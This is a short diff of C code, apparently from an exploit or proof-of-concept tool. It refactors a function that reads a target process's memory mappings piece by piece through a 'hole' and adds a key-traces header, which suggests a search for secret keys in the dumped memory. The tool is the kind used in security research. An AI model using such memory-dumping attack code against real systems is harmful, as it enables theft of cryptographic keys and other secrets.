@@ -1,6 +1,7 @@
 #include "attacker.h"
 
 #include "hole.h"
+#include "key_traces.h"
 #include "ratls/tls.h"
 
 #include <string.h>
@@ -100,9 +101,9 @@ GBytes *attacker_get(Attacker *attacker, guint64 address, gsize len) {
 
 void attacker_take_memory(Attacker *attacker, GArray *mappings) {
   for (guint i = 0; i < mappings->len; i++) {
-    const gsize *range = (const gsize *)(const void *)(mappings->data + i * 2 * sizeof(gsize));
-    for (gsize at = range[0], got = 1; at < range[1] && got; at += got) {
-      g_autoptr(GBytes) piece = attacker_get(attacker, at, MIN(range[1] - at, HOLE_MAX_PIECE));
+    const ProcessMapping *mapping = &g_array_index(mappings, ProcessMapping, i);
+    for (gsize at = mapping->start, got = 1; at < mapping->end && got; at += got) {
+      g_autoptr(GBytes) piece = attacker_get(attacker, at, MIN(mapping->end - at, HOLE_MAX_PIECE));
       got = g_bytes_get_size(piece);
     }
   }
